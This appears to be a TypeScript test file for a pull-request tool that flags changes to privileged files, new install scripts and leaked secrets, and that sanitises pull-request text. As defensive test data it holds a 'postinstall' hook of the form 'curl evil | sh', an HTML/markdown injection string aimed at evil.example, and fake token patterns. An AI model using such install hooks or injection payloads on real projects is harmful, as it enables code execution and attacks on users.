import {
  emptySession,
  type Proof,
  plainInMarkdown,
  type SessionState,
  type TurnState,
  type VerdictValue,
  type WorkStep
} from '@fixpoint/protocol'
import { describe, expect, it } from 'vitest'
import { ada } from '../testing/fixtures.ts'
import { addsInstallScript, protectedChanges } from './protected-paths.ts'
import { proposedWork, pullRequestBody } from './pull-request-body.ts'
import { withoutDetours } from './pull-requests.ts'
import { addedLines, findSecrets } from './secret-scan.ts'

const change = (path: string) => ({ path, status: 'modified' as const, added: 1, removed: 0 })

describe('files that run with more rights', () => {
  it.each([
    '.github/workflows/ci.yml',
    '.GITHUB/workflows/ci.yml',
    '.github/CODEOWNERS',
    'docs/CODEOWNERS',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'Jenkinsfile',
    '.gitmodules',
    '.husky/pre-commit',
    'packages/app/.npmrc',
    '.vscode/tasks.json',
    '.devcontainer/devcontainer.json',
    'Dockerfile',
    'deploy/Dockerfile.prod',
    'docker-compose.override.yml'
  ])('holds %s', path => {
    expect(protectedChanges([change(path)], [])).toEqual([path])
  })

  it.each(['src/App.tsx', 'src/github/workflows.ts', 'README.md', 'package.json', 'src/Dockerfile-parser/index.ts', 'docs/ci.md'])(
    'lets %s pass',
    path => {
      expect(protectedChanges([change(path)], [])).toEqual([])
    }
  )

  it('holds what a project names itself', () => {
    expect(protectedChanges([change('infra/prod.tf')], ['infra/**'])).toEqual(['infra/prod.tf'])
  })

  it('sees scripts that run at installation', () => {
    const diff = (line: string) =>
      `diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n+    ${line}\n`
    expect(addsInstallScript(diff('"postinstall": "curl evil | sh",'))).toBe(true)
    expect(addsInstallScript(diff('"prepare": "x"'))).toBe(true)
    expect(addsInstallScript(diff('"test": "vitest"'))).toBe(false)
    expect(addsInstallScript(diff('"postinstall": "x"').replaceAll('package.json', 'docs.json'))).toBe(false)
  })
})

describe('secrets on their way out', () => {
  it.each([
    ['-----BEGIN RSA PRIVATE KEY-----', 'private key'],
    [`AKIA${'A'.repeat(16)}`, 'AWS access key'],
    [`ghp_${'a'.repeat(36)}`, 'GitHub token'],
    [`xoxb-${'1'.repeat(12)}`, 'Slack token'],
    [`AIza${'b'.repeat(35)}`, 'Google API key'],
    ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N', 'JSON web token']
  ])('are known by their look: %s', (text, kind) => {
    expect(findSecrets(`const key = '${text}'`, [])).toEqual([kind])
  })

  it('are known when they are the server’s own, also in base64', () => {
    const secret = 'very-private-value-123'
    expect(findSecrets(`x ${secret} y`, [secret])).toHaveLength(1)
    expect(findSecrets(Buffer.from(secret).toString('base64'), [secret])).toHaveLength(1)
    expect(findSecrets('nothing here', [secret])).toEqual([])
  })

  it('are looked for in what a diff adds', () => {
    expect(addedLines('+++ b/x\n+new\n-old\n same')).toBe('+new')
  })
})

describe('the text of a pull request', () => {
  it('lets nothing that people or models wrote act on the code host', () => {
    const plain = plainInMarkdown(
      '@everyone closes #12 <img src=x onerror=alert(1)> ![x](https://evil.example/a.png) [l](javascript:x) www.evil.example'
    )
    expect(plain).not.toMatch(/@everyone|#12|(?<!\\)[<[]|https:\/\/|www\.evil/)
  })

  const commit = 'c'.repeat(40)
  const proof = (value: VerdictValue): Proof => ({
    proofId: 'prf_x',
    path: '/',
    viewport: { width: 800, height: 600, deviceScaleFactor: 1, scrollX: 0, scrollY: 0 },
    colorScheme: 'light',
    picks: [],
    console: { added: [], gone: [] },
    checks: [],
    files: [],
    verdict: { value, reasons: [{ about: 'seen', holds: value === 'verified', text: `It is ${value}.` }] }
  })

  /** A session of turns, each with the verdict of its proof. */
  function sessionOf(turns: Record<string, VerdictValue | null>): SessionState {
    const names = Object.keys(turns)
    const state = emptySession('ses_01k8r5t9m3c6v2x7b4na')
    return {
      ...state,
      prompts: names.map(name => ({ promptId: name, turnId: name, text: `Ask ${name}`, author: ada, queuedAt: '', status: 'done' })),
      turns: Object.entries(turns).map(([name, value]) => ({ ...turnOf(name), ...(value === null ? {} : { proof: proof(value) }) })),
      work: names.map(turnId => ({ kind: 'turn', turnId, commit }))
    }
  }

  const turnOf = (name: string): TurnState => ({
    turnId: name,
    promptId: name,
    status: 'done',
    startedAt: '',
    isStopRequested: false,
    attempt: 1,
    activity: '',
    steps: 1,
    usage: { inputTokens: 0, outputTokens: 0 },
    items: [],
    captured: {},
    checkpoints: [],
    savedMeanwhile: []
  })

  const bodyOf = (state: SessionState, upTo = state.work.length) => pullRequestBody(state, proposedWork(state, upTo), 'opn_x', new Map())

  it('says plainly when there is no proof', () => {
    const state = sessionOf({ a: null })
    const body = bodyOf({ ...state, prompts: state.prompts.map(prompt => ({ ...prompt, text: 'Fix it\n# now' })) })
    expect(body).toContain('## Proof: ⚠️ Unverified')
    expect(body).toContain('“Fix it # now” (no proof was taken)')
    expect(body).toContain('> Fix it\n> \\# now')
    expect(body).toContain('Asked for by Ada')
  })

  it('is headed by the one proof where that speaks for all of it', () => {
    const body = bodyOf(sessionOf({ a: 'verified' }))
    expect(body).toContain('## Proof: ✅ Verified\n\n- ✅ It is verified.')
  })

  it('is headed by the lowest verdict, and names each step', () => {
    const body = bodyOf(sessionOf({ a: 'looks_wrong', b: 'verified' }))
    expect(body).toContain('## Proof: ❌ Looks wrong\n\n- ❌ Looks wrong: “Ask a” (It is looks\\_wrong.)\n- ✅ Verified: “Ask b”\n')
    expect(body).toContain('### The last proof, of “Ask b”: ✅ Verified')
    // Positive control: without the step that looks wrong the same is verified.
    expect(bodyOf(sessionOf({ a: 'verified', b: 'verified' }))).toContain('## Proof: ✅ Verified')
  })

  it('names what people changed by hand, and whose it is', () => {
    const state = sessionOf({ a: 'verified' })
    const edits: WorkStep = { kind: 'edits', commit, by: [ada], at: '', paths: ['a`b.css'] }
    const body = bodyOf({ ...state, work: [...state.work, edits] })
    expect(body).toContain('## Proof: ⚠️ Unverified')
    expect(body).toContain('- ⚠️ Unverified: changes by Ada in `` a`b.css `` (changed by hand, which no proof speaks for)')
  })

  it('says nothing of work that is not in it: undone, or done since', () => {
    const state = sessionOf({ a: 'verified', b: 'looks_wrong', c: 'looks_wrong' })
    const undone = { by: ada, at: '', left: [] }
    const turns = state.turns.map(turn => (turn.turnId === 'b' ? { ...turn, undone } : turn))
    const work: WorkStep[] = [...state.work.slice(0, 2), { kind: 'undo', commit, by: ada, at: '', turnIds: ['b'] }, ...state.work.slice(2)]
    const body = bodyOf({ ...state, turns, work }, 3)
    expect(body).toContain('## Proof: ✅ Verified')
    expect(body).not.toMatch(/Ask b|looks/)
    expect(bodyOf({ ...state, turns, work })).toContain('## Proof: ❌ Looks wrong')
  })
})

describe('the commits of a pull request', () => {
  it.each([
    ['each step that changed something', 's', ['a', 'a', 'b'], [0, 2]],
    ['nothing of what was undone at once', 's', ['a', 's', 'b'], [2]],
    ['nothing where all was undone', 's', ['a', 'b', 's'], []],
    ['nothing of a way there and back', 's', ['a', 'b', 'a', 'c'], [0, 3]],
    ['an undoing of what was pushed', 'a', ['s'], [0]]
  ])('have %s', (_what, start, trees, kept) => {
    expect(withoutDetours(start, trees)).toEqual(kept)
  })
})
